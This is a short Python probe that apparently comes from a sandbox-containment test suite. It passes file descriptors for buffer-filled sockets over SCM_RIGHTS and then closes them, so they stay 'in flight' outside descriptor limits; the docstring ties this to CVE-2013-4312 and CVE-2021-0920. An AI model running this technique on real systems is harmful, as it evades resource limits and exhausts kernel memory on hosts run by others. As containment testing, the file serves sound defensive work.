"""Send descriptors to ourselves and close them: they live on in the queue.

origin: SCM_RIGHTS; CVE-2013-4312, CVE-2021-0920
why: sockets on their way count in no table, and each has its buffers
control: succeeds
"""

import socket


def attack(target):
    ours, theirs = socket.socketpair()
    sent = 0
    for _ in range(12):
        near, far = socket.socketpair()
        far.setblocking(False)
        try:
            while True:
                far.send(bytes(1 << 16))
        except BlockingIOError:
            pass
        try:
            socket.send_fds(ours, [b"x"], [near.fileno()])
        except OSError as error:
            return blocked("sendmsg", error)
        near.close()
        far.close()
        sent += 1
    return escaped(f"{sent} full sockets are in flight")
